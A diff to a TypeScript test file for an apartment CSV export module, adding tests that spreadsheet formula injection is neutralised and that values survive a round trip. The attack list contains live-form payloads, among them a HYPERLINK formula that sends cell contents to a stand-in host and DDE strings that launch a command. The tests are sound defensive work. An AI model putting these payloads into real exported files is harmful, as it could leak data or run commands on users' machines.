@@ -1,5 +1,13 @@
 import { describe, expect, it } from 'vitest';
-import { buildCsv, decodeCsv, formatNumber, parseCsv, readImport } from './apartment-csv';
+import {
+  buildCsv,
+  decodeCsv,
+  formatNumber,
+  neutraliseFormula,
+  parseCsv,
+  readImport,
+  restoreFormula,
+} from './apartment-csv';
 
 describe('apartment CSV', () => {
   it('writes UTF-16LE with a BOM and tabs, and reads it back with Swedish letters intact', () => {
@@ -37,5 +45,56 @@ describe('apartment CSV', () => {
       ['a', 'b'],
       ['1', '2'],
     ]);
+  });
+
+  describe('formula injection', () => {
+    const attacks = [
+      '=HYPERLINK("https://evil.example/?"&A1,"Klicka")',
+      "=cmd|' /C calc'!A0",
+      '+46 70 123 45 67',
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '\t=1+1',
+      '\r=1+1',
+      "'=already quoted",
+      "''=twice",
+      '-1e5',
+    ];
+
+    it('writes every cell a spreadsheet would run as text, behind one apostrophe', () => {
+      const bytes = buildCsv(
+        attacks.map((a) => ({ bostad: a, description: a })),
+        'en',
+      );
+      const rows = parseCsv(decodeCsv(bytes)).slice(1);
+      expect(rows).toHaveLength(attacks.length);
+      for (const [i, row] of rows.entries()) {
+        for (const cell of [row[0]!, row[11]!]) {
+          expect(cell.startsWith("'")).toBe(true);
+          expect(cell.slice(1)).toBe(attacks[i]);
+        }
+      }
+    });
+
+    it('leaves plain numbers, negative ones included, and ordinary text alone', () => {
+      for (const value of ['-1', '-70,5', '-70.5', '+3', '0', '1101', 'Lgh -1', "it's", "'quoted'", ''])
+        expect(neutraliseFormula(value)).toBe(value);
+    });
+
+    it('imports an export back to the very same values', () => {
+      const values = [...attacks, '-1', "'hello", 'plain'];
+      const bytes = buildCsv(
+        values.map((v, i) => ({ bostad: `B${i}`, floor: v, description: v })),
+        'sv',
+      );
+      const { records } = readImport(decodeCsv(bytes));
+      expect(records.map((r) => r.record.description)).toEqual(values.map((v) => v.trim()));
+      expect(records.map((r) => r.record.floor)).toEqual(values.map((v) => v.trim()));
+    });
+
+    it('is undone by restoreFormula for every value', () => {
+      for (const v of [...attacks, '-1', "'x", "'", "''", '='])
+        expect(restoreFormula(neutraliseFormula(v))).toBe(v);
+    });
   });
 });
